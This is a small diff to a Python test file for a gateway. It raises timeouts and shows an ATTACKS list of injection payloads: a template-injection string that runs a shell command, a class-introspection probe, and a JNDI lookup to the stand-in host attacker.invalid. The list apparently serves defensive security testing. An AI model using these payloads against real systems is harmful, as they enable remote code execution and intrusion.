@@ -18,6 +18,7 @@ import pytest
 from bifrost_nb import LocalGateway
 from tests.data.hostile import HOSTILE
 
+pytestmark = pytest.mark.timeout(600)  # a busy machine is no fault
 ROOT = Path(__file__).parents[2]
 ATTACKS = [
     "{{__import__('os').system('touch PWNED')}}", "{{x.__class__.__mro__}}", "${jndi:ldap://attacker.invalid/x}",
@@ -112,7 +113,7 @@ def events(shared_gateway: LocalGateway, tmp_path_factory: pytest.TempPathFactor
     corpus = tmp_path_factory.mktemp("corpus") / "attacks.json"
     corpus.write_bytes(orjson.dumps(texts))
     command = [sys.executable, "-c", CHILD, gateway.url, str(folder), str(corpus)]
-    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=170)
+    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=500)
     gateway.script([])
     assert done.returncode == 0, done.stderr[-3000:]
     return json.loads(done.stdout), folder
